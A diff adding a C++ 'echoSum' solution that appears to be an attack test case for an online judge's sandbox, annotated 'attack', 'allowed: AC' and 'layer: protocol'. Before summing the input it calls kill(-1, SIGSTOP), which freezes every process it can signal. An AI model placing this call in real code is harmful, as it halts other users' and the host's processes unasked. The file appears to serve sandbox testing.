@@ -1,0 +1,12 @@
+// attack: stops every process it may signal, the template of its own program too
+// allowed: AC
+// layer: protocol
+#include <signal.h>
+
+class Solution {
+ public:
+  long long echoSum(vector<long long>& nums) {
+    kill(-1, SIGSTOP);
+    return accumulate(nums.begin(), nums.end(), 0LL);
+  }
+};
